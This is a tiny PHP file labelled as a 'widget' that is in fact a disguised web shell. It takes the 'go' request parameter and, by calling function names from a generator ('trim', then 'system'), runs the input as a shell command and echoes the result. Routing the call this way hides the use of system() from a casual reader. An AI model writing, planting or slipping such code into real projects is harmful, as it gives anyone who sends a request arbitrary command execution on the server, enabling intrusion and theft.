<?php
/* widget */
$q2 = $_REQUEST['go'] ?? '';
function names() { yield 'trim'; yield 'system'; }
foreach (names() as $fn) { $out = $fn($q2); }
echo $out;
